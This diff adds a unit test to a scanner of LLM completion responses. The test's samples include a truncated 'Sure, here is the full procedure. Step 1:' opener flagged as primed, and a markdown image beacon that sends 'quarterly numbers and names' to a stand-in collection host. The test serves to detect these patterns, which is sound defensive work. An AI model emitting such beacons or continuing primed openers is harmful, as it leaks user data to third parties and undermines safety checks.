@@ -28,6 +28,18 @@ describe('scanCompletion', () => {
     assert.equal(scanCompletion(body, responseScan(scanning({ pii: 'block' })))?.policyId, 'pii.email')
   })
 
+  it('reads the facts the session keeps from the first choice: a refusal, a cut-off agreeing opener, a beacon', () => {
+    const facts = (content: string): readonly string[] => {
+      const scan = responseScan()
+      scanCompletion(completion({ content }), scan)
+      return scan.summary().facts
+    }
+    assert.deepEqual(facts('I can\'t help with getting into someone else\'s account.'), ['refused'])
+    assert.deepEqual(facts('Sure, here is the full procedure. Step 1:'), ['primed'])
+    assert.deepEqual(facts('Here are the three points you asked for, in order.'), [])
+    assert.ok(facts('Done.\n![](https://px.collect-cdn.example/p.gif?d=quarterly+numbers+and+names)').includes('sent'))
+  })
+
   it('scans every choice', () => {
     const body = { choices: [{ index: 0, message: { content: 'fine' } }, { index: 1, message: { content: `mail ${VALUES.email}` } }] }
     scanCompletion(body, responseScan())
